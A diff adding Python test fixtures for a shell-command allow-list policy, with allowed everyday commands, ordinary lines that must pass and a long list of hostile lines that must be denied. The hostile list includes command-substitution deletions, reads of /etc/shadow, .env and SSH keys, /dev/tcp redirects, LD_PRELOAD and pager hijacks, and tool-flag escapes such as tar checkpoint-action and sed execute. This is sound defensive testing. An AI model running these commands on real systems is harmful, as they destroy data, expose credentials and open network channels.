@@ -1,0 +1,235 @@
+"""Command lines for the policy's tests: rules a person might write, lines that must not pass, lines that should."""
+
+from __future__ import annotations
+
+from typing import Any
+
+ALLOWED = [
+    *("ls", "cat", "head", "tail", "wc", "grep", "rg", "find", "sort", "uniq", "sed", "echo", "pwd", "cd", "date"),
+    *("tree", "printf", "git status", "git log", "git diff", "git show", "git branch", "git grep", "make test"),
+    *("pytest", "npm test", "python --version", "cargo check", "tar -tf *", "true"),
+]
+RULES: list[dict[str, Any]] = [{"id": "everyday", "decision": "allow", "commands": ALLOWED}]
+
+HOSTILE = [
+    # what a line can hold besides words
+    *(
+        "ls\nrm -rf x",
+        "ls\rrm -rf x",
+        "ls\x00rm",
+        "ls\u2028rm -rf x",
+        "ls\u00a0-la",
+        "ls\u200brm",
+        "ls \x1b[201~rm -rf x",
+    ),
+    *("ls\x0brm", "ls\x7f", "ls \u202eevil", "ls \ud800", "ls\trm", "ls \\\nrm", "l\\s", "ls \\; rm x", "ls # \nrm x"),
+    *("ls$IFS-la", "ls $HOME", "ls ${HOME}", "cat $'/etc/passwd'", 'cat $"x"', "ls $(rm -rf x)", "ls `rm -rf x`"),
+    *('echo "$(rm x)"', 'echo "`rm x`"', "echo $((a[$(rm x)]))", "ls ${x:=$(rm x)}", "{rm,-rf,x}", "ls {a,b}", "ls *"),
+    *("ls ?", "ls [a-z]", "ls ~", "ls ~root", "cat <<EOF\n$(rm x)\nEOF", "cat <<'EOF'\nx\nEOF", "cat <<< $(rm x)"),
+    *("cat <(rm x)", "ls >(sh)", "ls |& sh", "ls | sh", "ls & rm x", "ls &", "ls; rm x", "ls && rm x", "ls || rm x"),
+    *(
+        "ls;rm x",
+        "(rm x)",
+        "{ rm x; }",
+        "! rm x",
+        "if true; then rm x; fi",
+        "for i in a; do rm x; done",
+        "while ls; do rm; done",
+    ),
+    *("case a in a) rm x;; esac", "ls() { rm x; }; ls", "function ls { rm x; }", "[[ a = a ]]", "[[ -n $(rm x) ]]"),
+    *("((x[$(rm x)]))", "a[$(rm x)]=1 ls", "time rm x", "coproc rm x", "exec 3<>/dev/tcp/h/80", "!!", "echo !$"),
+    # where output and input go
+    *("echo x > .bashrc", "echo x >> .git/hooks/pre-commit", "ls > /dev/tcp/1.2.3.4/80", "ls &> out", "ls >| out"),
+    *(
+        "cat < /etc/shadow",
+        "ls 2> out",
+        "echo x >&out",
+        "ls <> x",
+        "cat < /dev/tcp/h/80",
+        "ls >/dev/null1",
+        "ls >/dev/sda",
+    ),
+    # variables before and around
+    *("PAGER=sh git log", "GIT_EXTERNAL_DIFF=sh git diff", "LD_PRELOAD=./x.so ls", "BASH_ENV=x ls", "PATH=. ls", "A=1"),
+    *(
+        "export PATH=.",
+        "declare -x PATH=.",
+        "alias ls=sh",
+        "trap 'rm x' EXIT",
+        "PROMPT_COMMAND='rm x'",
+        "PS1='$(rm x)'",
+    ),
+    *(
+        "set -x",
+        "unset PATH",
+        "hash -p ./x ls",
+        "enable -f ./x.so ls",
+        "readonly x=1",
+        "source ./x",
+        ". ./x",
+        "eval ls",
+    ),
+    # programs that run others
+    *(
+        "xargs ls",
+        "env ls",
+        "command ls",
+        "exec ls",
+        "nohup ls",
+        "sudo ls",
+        "bash -c ls",
+        "sh x",
+        "busybox ls",
+        "time ls",
+    ),
+    *("ls | xargs rm", "builtin ls", "nice ls", "timeout 5 ls", "ssh h ls", "watch ls", "script -c ls", "noglob ls"),
+    # allowed programs, turned
+    *(
+        "git -c core.pager=sh log",
+        "git log --output=x",
+        "git log --outp=x",
+        "git diff --ext-diff",
+        "git diff --output x",
+    ),
+    *(
+        "git grep -O x",
+        "git grep --open-files-in-pager=sh x",
+        "git grep -Osh x",
+        "git show --textconv",
+        "git branch -D main",
+    ),
+    *("git -C /x status", "git --exec-path=. status", "git --git-dir=x status", "git diff --no-index /etc/passwd x"),
+    *(
+        "git branch -fm a b",
+        "git log -O/etc/passwd",
+        "git branch --delete main",
+        "git push",
+        "git fetch ext::sh",
+        "git",
+    ),
+    *(
+        "git branch --edit-desc",
+        "git log --upload-pack=x --ext-d",
+        "find . -exec rm x",
+        "find . -delete",
+        "find . -ok rm",
+    ),
+    *("find . -execdir sh", "find . -fprintf x y", "find . -fls x", "find . -name x -delete", "find / -name id_rsa"),
+    *("rg --pre sh x", "rg --pre=sh x", "rg --hostname-bin=./x y", "sort -o x y", "sort -ox y", "sort --output=x y"),
+    *(
+        "sort --compress-program=sh y",
+        "sort --compress-p sh y",
+        "sort -nro x y",
+        "sort -T /tmp y",
+        "sort --files0-from=x",
+    ),
+    *(
+        "sed -i s/a/b/ x",
+        "sed 1e x",
+        "sed 's/a/rm x/e' x",
+        "sed -n 'w out' x",
+        "sed -n '1p;w x' y",
+        "sed -f x y",
+        "sed p x",
+    ),
+    *(
+        "sed -n 1p -i x",
+        "sed -n 1p --in-place x",
+        "sed --expression=1e x",
+        "sed -n --in-p 1p x",
+        "uniq a .bashrc",
+        "uniq a b",
+    ),
+    *("tar -tf a --checkpoint-action=exec=sh", "tar -tf a -I sh", "tar -tf a --to-command=sh", "tar -xf a", "tar -tf"),
+    *("awk 'BEGIN{system(\"rm x\")}'", "make", "make install", "make test SHELL=x", "make test --eval=x", "npm run x"),
+    *(
+        "npm test --scripts-prepend-node-path",
+        "pytest x.py",
+        "pytest -p x",
+        "python -c x",
+        "python x.py",
+        "go test",
+        "cargo run",
+    ),
+    *("cargo check --config x", "tree -o x", "printf -v PATH x", "date -s 12:00", "date --set 12:00", "date 01010101"),
+    # places
+    *(
+        "cat /proc/self/environ",
+        "cat /proc/self/root/etc/shadow",
+        "cat /etc/passwd",
+        "cat ../x",
+        "cat x/../../y",
+        "ls ..",
+    ),
+    *(
+        "cat .env",
+        "cat a/.ssh/id_rsa",
+        "grep -rn x /home",
+        "grep --file=/etc/passwd x",
+        "grep -f/etc/passwd x",
+        "grep -f p x",
+    ),
+    *(
+        "ls -I/x",
+        "cat file:///etc/passwd",
+        "head -c5 /dev/sda",
+        "cd /",
+        "cd ..",
+        "tail -f x",
+        "wc --files0-from=x",
+        "ls a:/x",
+    ),
+    # programs of the same name
+    *("./ls", "/tmp/ls", "bin/ls", "../ls", "LS", "'ls'x", '"ls"\\ x', "%1", "-ls", "=ls", "''", "'ls -la'"),
+    # grammar nobody understands, and too much of everything
+    *(
+        "ls )",
+        "ls (",
+        "ls '",
+        'ls "',
+        "ls &&",
+        "| ls",
+        "ls ;; ls",
+        "ls ; ; ls",
+        "ls; fi",
+        "}",
+        "",
+        "   ",
+        "#",
+        "ls " + "x" * 5000,
+    ),
+    *("true; " * 60 + "true", "$(" * 200 + "ls" + ")" * 200, "ls | " * 450 + "ls", "(" * 5000, "ls 'a''b'", "ls a==ls"),
+]
+"""None may be allowed by RULES outside of a box."""
+
+ORDINARY = [
+    *("ls", "ls -la", "ls -la src", "cat README.md", "head -n 20 src/a.py", "tail -n 5 build.log", "wc -l src/a.py"),
+    *("grep -rn 'def main' src", 'grep -n "a b" x.py', "rg --type py TODO src", "find . -name '*.py' -type f", "pwd"),
+    *("git status", "git status --short --branch", "git log --oneline -5", "git log --format='%H %s' -n 3", "git diff"),
+    *("git diff --stat HEAD", "git show HEAD:src/a.py", "git branch --list", "git grep -n main", "make test", "pytest"),
+    *(
+        "npm test",
+        "python --version",
+        "cd src && ls",
+        "git status && git diff",
+        "cat a.txt | sort | uniq -c",
+        "echo 'done!'",
+    ),
+    *(
+        "sed -n 10,20p src/a.py",
+        "cat x || echo missing",
+        "ls; pwd",
+        "date +%Y-%m-%d",
+        "pytest 2>&1 | tail -n 5",
+        "tree -L 2",
+    ),
+    *("ls missing 2>/dev/null", "tar -tf a.tar", "rg 'a|b' src | head", "printf '%s' x", "sort -k2 -n x", "ls ./src"),
+    *(
+        "echo 'ä € 日本'",
+        "find src -maxdepth 2 -name a.py",
+        "  git status  ",
+        "cargo check\n",
+        "git show --stat --pretty=short",
+    ),
+]
+"""All are allowed by RULES."""
